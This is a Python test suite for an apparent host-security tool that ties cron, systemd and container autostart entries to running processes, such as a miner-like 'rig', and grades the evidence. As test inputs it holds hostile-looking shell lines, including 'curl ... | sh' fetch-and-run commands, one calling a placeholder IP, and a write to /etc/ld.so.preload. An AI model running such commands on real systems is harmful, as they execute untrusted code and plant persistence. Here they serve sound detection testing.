"""Which autostarts are tied to a process, what that rests on, and which are not."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from gpuwarden.finding import Evidence
from gpuwarden.model import (
    CgroupPlacement,
    Executable,
    NodeFacts,
    PersistenceEntry,
    Process,
    Snapshot,
    StartedProgram,
)
from gpuwarden.node import Node
from gpuwarden.rules import autostart_index
from gpuwarden.rules.autostart_ties import Tie, runner_of, tie_of
from gpuwarden.rules.respawn import SHOWN_LIMIT, observe
from gpuwarden.sensors.process.fan_out import in_child

PYTHON = Executable(path="/usr/bin/python3.11", device="0:1", inode=11, links_python=True)
SLEEP = Executable(path="/usr/bin/sleep", device="0:1", inode=12)
DASH = Executable(path="/usr/bin/dash", device="0:1", inode=13)
BUSYBOX = Executable(path="/bin/busybox", device="0:1", inode=14)
RIG = Executable(path="/home/alice/rig", device="0:1", inode=20)
FALSE_PYTHON = Executable(path="/opt/x/python3", device="0:1", inode=21, links_python=False)
FOUND = {
    "python3": PYTHON,
    "/usr/bin/python3": PYTHON,
    "sleep": SLEEP,
    "sh": DASH,
    "bash": DASH,
}


def process(exe: Executable | None, *arguments: str, **fields: Any) -> Process:
    name = exe.path if exe is not None else "?"
    values = {"pid": 500, "start_time_ticks": 1, "uid": 1000, "user": "alice", "ppid": 0}
    return Process(**{**values, "exe": exe, "argv": (name, *arguments), **fields})


def entry(
    command: str, found: dict[str, Executable] | None = None, kind: str = "cron", **fields: Any
) -> PersistenceEntry:
    """An entry with one command, whose programs were looked up as ``found`` says."""
    programs = tuple(
        StartedProgram(name=name, path=exe.path, device=exe.device, inode=exe.inode)
        for name, exe in (FOUND if found is None else found).items()
    )
    values = {"path": "/etc/cron.d/x", "line": 3, "text": command, "programs": programs}
    return PersistenceEntry(**{**values, "kind": kind, "commands": (command,), **fields})


def node_of(*processes: Process, entries: tuple[PersistenceEntry, ...] = ()) -> Node:
    facts = NodeFacts(hostname="here")
    return Node(Snapshot(taken_at_ns=0, node=facts, processes=processes, persistence=entries))


def tie(one: PersistenceEntry, runs: Process) -> Tie | None:
    return tie_of(one, runner_of(node_of(runs), runs))


def told(one: PersistenceEntry, runs: Process, *others: Process) -> list[Evidence]:
    return list(observe(node_of(runs, *others, entries=(one,)), runs))


# -------------------------------------------------------------------- hits


@pytest.mark.parametrize(
    ("command", "runs", "kind", "sure"),
    [
        ("/home/alice/rig -a kawpow", process(RIG, "-a", "kawpow"), "path", True),
        ("/home/alice/rig -a kawpow", process(RIG, "other"), "path", True),
        ("cd /home/alice && ./rig &", process(RIG), "path", True),
        ("cd /home; alice/rig", process(replace(RIG, deleted=True)), "path", True),
        ("nohup nice /home/alice/rig", process(RIG), "path", True),
        ("python3 /opt/t.py --lr 1", process(PYTHON, "/opt/t.py", "--lr", "1"), "script", True),
        ("python3 -u /opt/t.py", process(PYTHON, "/opt/t.py", "--lr", "1"), "script", True),
        ("cd /opt; python3 t.py", process(PYTHON, "t.py", cwd="/opt"), "script", True),
        ("cd /opt; python3 t.py", process(PYTHON, "/opt/t.py"), "script", True),
        ("/opt/t.py --lr 1", process(PYTHON, "/opt/t.py", "--lr", "1"), "script", True),
        ("/opt/w.sh", process(DASH, "/opt/w.sh"), "script", True),
        ("python3 -m vllm --port 1", process(PYTHON, "-m", "vllm", "--port", "1"), "words", True),
        ("python3 -m vllm --port $P", process(PYTHON, "-m", "vllm", "--port", "1"), "words", True),
        ("python3 -c 'import x'", process(PYTHON, "-c", "import x"), "line", True),
        ("cd /a; b || c", process(DASH, "-c", "cd /a; b || c"), "line", True),
        ("a --d=\\%F%input", process(DASH, "-c", "a --d=%F"), "line", True),
        ("sleep 600", process(SLEEP, "600"), "words", False),
        ("python3 t.py", process(PYTHON, "t.py"), "script", False),
        ("rig -a", process(RIG), "name", False),
        ("DAEMON=/home/alice/rig", process(RIG), "mention", False),
        ("find /x -exec /home/alice/rig", process(RIG), "mention", False),
        ("/home/alice/rig", process(None, argv=("/home/alice/rig",)), "claim", False),
        (
            "/home/alice/rig",
            process(Executable(path="/memfd:x", memfd=True), argv=("/home/alice/rig",)),
            "claim",
            False,
        ),
    ],
)
def test_what_a_line_would_start_is_tied(
    command: str, runs: Process, kind: str, sure: bool
) -> None:
    found = tie(entry(command), runs)
    assert found is not None
    assert (found.kind, found.sure) == (kind, sure)


@pytest.mark.parametrize("command", ["python3 -o pool", "/opt/x/python3", "nice python3 -o pool"])
def test_a_miner_named_like_an_interpreter_is_found_by_its_file(command: str) -> None:
    found = tie(
        entry(command, {"python3": FALSE_PYTHON, "/opt/x/python3": FALSE_PYTHON}),
        process(FALSE_PYTHON, "anything else"),
    )
    assert found == Tie("file", True, "file")


def test_a_binary_is_known_by_its_inode_whatever_it_is_called() -> None:
    found = tie(entry("/opt/current/run", {"/opt/current/run": RIG}), process(RIG))
    assert found is not None and found.kind == "file"


def test_a_link_to_an_interpreter_is_that_interpreter() -> None:
    line = "/home/alice/venv/bin/python /opt/t.py"
    one = entry(line, {"/home/alice/venv/bin/python": PYTHON})
    found = tie(one, process(PYTHON, "/opt/t.py"))
    assert found == Tie("script", True, "script /opt/t.py")
    assert tie(one, process(PYTHON, "/opt/other.py")) is None


@pytest.mark.parametrize(("runs", "sure"), [("/a.jar", True), ("/b.jar", False)])
def test_what_may_be_an_interpreter_in_a_place_of_its_own(runs: str, sure: bool) -> None:
    java = Executable(path="/opt/jdk/bin/java", device="0:1", inode=30)
    one = entry("/opt/jdk/bin/java -jar /a.jar", {"/opt/jdk/bin/java": java})
    found = tie(one, process(java, "-jar", runs))
    assert found is not None and found.sure is sure


def test_a_file_that_was_deleted_from_its_path_is_known_by_name() -> None:
    one = entry("rig -a", {}, search_path="/home/alice:/bin")
    one = replace(one, programs=(StartedProgram(name="rig"),))
    gone = process(replace(RIG, deleted=True))
    assert tie(one, gone) == Tie("name", False, "name alone")
    assert tie(one, process(RIG)) is None
    assert tie(replace(one, search_path="/bin"), gone) is None


# -------------------------------------------------------------------- misses


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("sleep $i", process(SLEEP, "777")),
        ("sleep 5", process(SLEEP, "777")),
        ("sleep", process(SLEEP, "777")),
        ("sleep", process(SLEEP)),
        ("python3 /opt/t.py", process(PYTHON, "/opt/other.py")),
        ("python3 /opt/t.py", process(PYTHON)),
        ("python3 /opt/t.py", process(PYTHON, argv=None)),
        ("python3 /opt/t.py", process(PYTHON, argv=("a title that it wrote",))),
        ("python3", process(PYTHON, "/opt/t.py")),
        ("python3", process(PYTHON)),
        ("python3 -m http.server 1", process(PYTHON, "-m", "http.server", "2")),
        ("python3 -c 'import x'", process(PYTHON, "-c", "import y")),
        ("cd /opt; python3 t.py", process(PYTHON, "t.py", cwd="/home/alice")),
        ("curl x | sh", process(DASH)),
        ("sh -c 'sleep 1'", process(DASH, "-c", "sleep 2")),
        ("cd /a; b || c", process(DASH, "-c", "b || c")),
        ("test -x /home/alice/other", process(RIG)),
        ("cp /x/rig /y; z --name rig", process(RIG)),
        ("/srv/rig", process(RIG)),
        ("/home/alice/rig", process(FALSE_PYTHON, argv=("/home/alice/rig",))),
        ("/opt/x/python3", process(PYTHON, "/opt/t.py")),
        ("DAEMON=/usr/bin/nvidia-smi", process(Executable(path="/usr/bin/nvidia-smi"))),
        ("DAEMON=/usr/bin/python3.11", process(PYTHON, "/opt/t.py")),
    ],
)
def test_what_a_line_would_not_start_is_not_tied(command: str, runs: Process) -> None:
    assert tie(entry(command), runs) is None


def test_a_name_that_leads_to_another_file_is_not_tied() -> None:
    assert (
        tie(entry("rig", {"rig": replace(RIG, path="/usr/bin/rig", inode=9)}), process(RIG)) is None
    )


@pytest.mark.parametrize(
    ("applet", "tied"), [("sleep", True), ("/bin/sleep", True), ("tail", False)]
)
def test_a_program_of_many_names_is_told_apart_by_the_name_it_was_started_by(
    applet: str, tied: bool
) -> None:
    runs = process(BUSYBOX, argv=(applet, "600"))
    assert (tie(entry("sleep 600", {"sleep": BUSYBOX}), runs) is not None) is tied


@pytest.mark.parametrize(
    ("line", "words", "fits"),
    [
        ("sleep 600 $X", ("600", "a", "b"), True),
        ("sleep 600 $X", ("600",), True),
        ("sleep 600 $X 5", ("600", "a", "5"), True),
        ("sleep 600 $X 5", ("600", "a", "6"), False),
        ("sleep 600 $X 600", ("600",), False),
        ("sleep *", ("a",), False),
    ],
)
def test_variables_stand_for_any_words(line: str, words: tuple[str, ...], fits: bool) -> None:
    assert (tie(entry(line), process(SLEEP, *words)) is not None) is fits


# -------------------------------------------------------------------- roots, users, units


def test_another_roots_path_is_another_file_unless_the_line_goes_in_there() -> None:
    inside = process(
        replace(RIG, path_is_genuine=None), cgroup=CgroupPlacement(container_id="c" * 64)
    )
    assert tie(entry("/home/alice/rig"), inside) is None
    assert tie(entry("docker exec box /home/alice/rig"), inside) is not None
    same_file = entry("/srv/rig", {"/srv/rig": RIG})
    assert tie(same_file, inside) == Tie("file", True, "file")
    script = process(replace(PYTHON, inode=99), "/opt/t.py", cgroup=inside.cgroup)
    assert tie(entry("python3 /opt/t.py"), script) is None


def test_a_file_that_lies_about_its_path_is_not_tied_by_it() -> None:
    assert tie(entry("/home/alice/rig"), process(replace(RIG, path_is_genuine=False))) is None


@pytest.mark.parametrize(
    ("user", "command", "sure"),
    [
        ("alice", "/home/alice/rig", True),
        ("1000", "/home/alice/rig", True),
        (None, "/home/alice/rig", True),
        ("bob", "/home/alice/rig", None),
        ("bob", "sudo -u alice /home/alice/rig", True),
        ("bob", "DAEMON=/home/alice/rig", None),
        ("root", "/home/alice/rig", False),
        ("root", "su alice -c /home/alice/rig", True),
    ],
)
def test_a_line_starts_things_for_its_user(
    user: str | None, command: str, sure: bool | None
) -> None:
    found = tie(entry(command, user=user), process(RIG))
    assert (None if found is None else found.sure) is sure
    if sure is False:
        assert found is not None and "under another user" in found.noun


def test_whose_number_has_no_name_is_not_taken_for_another_user() -> None:
    runs = process(RIG, user=None)
    assert tie(entry("/home/alice/rig", user="alice"), runs) == Tie("path", True, "path")
    root = process(RIG, user=None, uid=0)
    assert tie(entry("/home/alice/rig", user="alice"), root) is None
    assert tie(entry("/home/alice/rig", user="root"), root) == Tie("path", True, "path")


def unit(name: str, path: str, **fields: Any) -> PersistenceEntry:
    return entry("/x/y", {}, "systemd-service", unit=name, path=path, **fields)


SYSTEM = "/etc/systemd/system/w@.service"
HOME = "/home/alice/.config/systemd/user/w.service"


@pytest.mark.parametrize(
    ("one", "placement", "tied"),
    [
        (unit("w.service", SYSTEM), CgroupPlacement(unit="w.service"), True),
        (unit("w@.service", SYSTEM), CgroupPlacement(unit="w@7.service"), True),
        (unit("w@8.service", SYSTEM), CgroupPlacement(unit="w@7.service"), False),
        (unit("w.service", SYSTEM), CgroupPlacement(unit="v.service"), False),
        (unit("w.service", SYSTEM), CgroupPlacement(unit="w.service", user_slice_uid=1000), False),
        (unit("w.service", HOME), CgroupPlacement(unit="w.service"), False),
        (unit("w.service", HOME), CgroupPlacement(unit="w.service", user_slice_uid=1000), True),
        (
            unit("w.service", HOME, owner_uid=1001),
            CgroupPlacement(unit="w.service", user_slice_uid=1000),
            False,
        ),
        (
            unit("w.service", "/usr/lib/systemd/user/w.service", owner_uid=0),
            CgroupPlacement(unit="w.service", user_slice_uid=1000),
            True,
        ),
        (entry("/x/y", {}, "supervisord", unit="w"), CgroupPlacement(unit="w"), False),
    ],
)
def test_a_unit_is_tied_by_the_group_it_lives_in(
    one: PersistenceEntry, placement: CgroupPlacement, tied: bool
) -> None:
    found = tie(one, process(RIG, cgroup=placement))
    assert (found is not None) is tied
    if found is not None:
        assert (found.kind, found.sure) == ("unit", True)


@pytest.mark.parametrize(
    "placement", [CgroupPlacement(unit="other.service"), CgroupPlacement(session="3")]
)
def test_what_lives_outside_of_a_unit_was_not_started_by_it(placement: CgroupPlacement) -> None:
    one = entry("/home/alice/rig", kind="systemd-service", unit="rig.service")
    (evidence,) = told(one, process(RIG, cgroup=placement))
    assert evidence.strength == "weak"
    assert evidence.text.startswith("perhaps started again by systemd-service")
    assert "outside of that unit" in evidence.text
    (evidence,) = told(one, process(RIG))
    assert evidence.strength == "strong"


def test_containers_are_tied_by_their_id_and_by_nothing_else() -> None:
    name = "a" * 64
    one = PersistenceEntry(
        kind="container-restart", path=f"docker:{name}", commands=("/home/alice/rig",), unit="box"
    )
    assert tie(one, process(RIG)) is None
    nested = CgroupPlacement(container_id="b" * 64, chain=(f"docker:{name}", "container:b"))
    for placement in (CgroupPlacement(container_id=name), nested):
        (evidence,) = told(one, process(RIG, cgroup=placement))
        assert (evidence.kind, evidence.strength) == (None, "fact")
        assert "tied by its container" in evidence.text


# -------------------------------------------------------------------- parents


def test_a_script_above_a_process_is_named_as_such() -> None:
    runs = process(SLEEP, "600", ppid=400)
    above = process(DASH, "/opt/w.sh", pid=400, ppid=300)
    (evidence,) = told(entry("/opt/w.sh"), runs, above)
    assert "tied by the script /opt/w.sh of a process above it" in evidence.text


@pytest.mark.parametrize(
    "launcher",
    [
        process(Executable(path="/usr/sbin/sshd"), pid=400),
        process(Executable(path="/usr/sbin/cron"), pid=400),
        process(PYTHON, "/usr/bin/supervisord", pid=400),
        process(Executable(path="/usr/lib/x/anything"), pid=1),
    ],
)
def test_what_starts_a_launcher_does_not_start_what_that_launches(launcher: Process) -> None:
    runs = process(RIG, ppid=launcher.pid)
    line = " ".join(launcher.argv or ())
    assert told(entry(line, {}), runs, launcher) == []
    assert told(entry(line, {}), launcher) != []


def test_a_launcher_in_a_place_of_its_own_is_none() -> None:
    above = process(Executable(path="/home/alice/sshd"), pid=400)
    assert told(entry("/home/alice/sshd", {}), process(RIG, ppid=400), above) != []


def test_a_launchers_unit_is_not_what_starts_a_job_of_it() -> None:
    placement = CgroupPlacement(unit="cron.service")
    cron = process(Executable(path="/usr/sbin/cron"), pid=400, cgroup=placement)
    one = unit("cron.service", "/usr/lib/systemd/system/cron.service")
    assert told(one, process(RIG, ppid=400, cgroup=placement), cron) == []
    assert told(one, cron) != []


# -------------------------------------------------------------------- what is said


def test_what_a_match_rests_on_is_said_and_a_weak_one_is_called_perhaps() -> None:
    (evidence,) = told(entry("/home/alice/rig -x"), process(RIG))
    assert (
        evidence.text
        == "started again by cron /etc/cron.d/x:3, tied by its path: /home/alice/rig -x"
    )
    assert (evidence.kind, evidence.strength) == ("persistence", "strong")
    (evidence,) = told(entry("sleep 600"), process(SLEEP, "600"))
    assert (
        evidence.text
        == "perhaps started again by cron /etc/cron.d/x:3, tied by its words alone: sleep 600"
    )
    assert evidence.strength == "weak"


@pytest.mark.parametrize(
    ("command", "runs", "strength"),
    [
        ("cp /a /home/alice/rig && /home/alice/rig; rm -f /b", process(RIG), "strong"),
        ("/home/alice/rig=/x; echo a > /etc/ld.so.preload", process(RIG), "strong"),
        ("curl http://192.0.2.1/x | sh; sleep 600", process(SLEEP, "600"), "weak"),
    ],
)
def test_an_odd_entry_is_strong_unless_only_common_words_tie_it(
    command: str, runs: Process, strength: str
) -> None:
    (evidence,) = told(entry(command), runs)
    assert evidence.strength == strength
    assert "; the entry " in evidence.text


def test_a_preloaded_library_is_no_start() -> None:
    one = PersistenceEntry(kind="preload", path="/etc/ld.so.preload", commands=("/home/alice/rig",))
    assert told(one, process(RIG)) == []


# -------------------------------------------------------------------- floods


def test_more_entries_than_are_told_are_counted_and_the_strongest_come_first() -> None:
    flood = tuple(entry("rig $x", {}, line=n, owner_uid=1000) for n in range(1, 41))
    real = entry("/home/alice/rig", {}, path="/z", owner_uid=1001)
    runs = process(RIG)
    evidence = list(observe(node_of(runs, entries=(*flood, real)), runs))
    assert len(evidence) == SHOWN_LIMIT + 1
    assert evidence[0].source == "/z"
    assert "25 more autostarts" in evidence[-1].text


def test_one_users_flood_takes_nobody_elses_place_and_is_said() -> None:
    many = autostart_index.COMPARED_LIMIT + 5
    flood = tuple(entry("rig $x", {}, line=n, owner_uid=1000) for n in range(1, many))
    real = entry("/home/alice/rig", {}, path="/z", owner_uid=1001)
    runs = process(RIG)
    evidence = list(observe(node_of(runs, entries=(*flood, real)), runs))
    assert evidence[0].source == "/z"
    assert "were not compared" in evidence[-1].text
    assert not any("compared" in e.text for e in observe(node_of(runs, entries=(real,)), runs))


@pytest.mark.parametrize("piece", ["rig;", "/home/alice/rig ", "sleep 1;", "nohup ", "a=/b/"])
def test_entries_made_to_hurt_are_compared_all_the_same(piece: str) -> None:
    """The deadline only ends a test that would hang."""
    line = (piece * 2000)[:2000]
    flood = tuple(entry(line + str(n), {}, line=n, owner_uid=1000) for n in range(20))
    people = tuple(process(RIG, pid=n) for n in range(2, 200))
    node = node_of(*people, entries=flood)

    def work() -> bytes:
        return repr(sum(len(list(observe(node, one))) for one in people)).encode()

    assert in_child(work, 60)


WORDS = st.sampled_from(
    "python3 sleep sh -c -m /opt/t.py t.py rig /home/alice/rig 600 $X ; && cd /opt nohup 'a".split()
)
COMMANDS = st.lists(WORDS, max_size=8).map(" ".join)
RUNNERS = st.builds(
    lambda exe, words, cwd: process(exe, *words, cwd=cwd),
    st.sampled_from([PYTHON, SLEEP, DASH, RIG, BUSYBOX, FALSE_PYTHON, None]),
    st.lists(WORDS, max_size=4),
    st.sampled_from([None, "/opt", "/"]),
)


@given(COMMANDS, RUNNERS, st.booleans())
def test_the_index_leaves_out_nothing_that_is_tied(
    command: str, runs: Process, looked_up: bool
) -> None:
    one = entry(command, None if looked_up else {})
    found = tie(one, runs)
    assert bool(told(one, runs)) is (found is not None)


@given(COMMANDS, st.lists(WORDS, max_size=4))
def test_a_general_tool_is_never_tied_without_its_arguments(command: str, words: list[str]) -> None:
    found = tie(entry(command), process(SLEEP, *words))
    assert found is None or (found.kind == "words" and not found.sure and words)


@given(st.lists(st.from_regex(r"[a-z0-9./-]{1,8}", fullmatch=True), max_size=5))
def test_a_line_ties_what_it_starts_itself(words: list[str]) -> None:
    assert tie(entry(" ".join(("/home/alice/rig", *words))), process(RIG, *words)) is not None
    assert tie(entry(" ".join(("python3", "/a.py", *words))), process(PYTHON, "/a.py", *words))
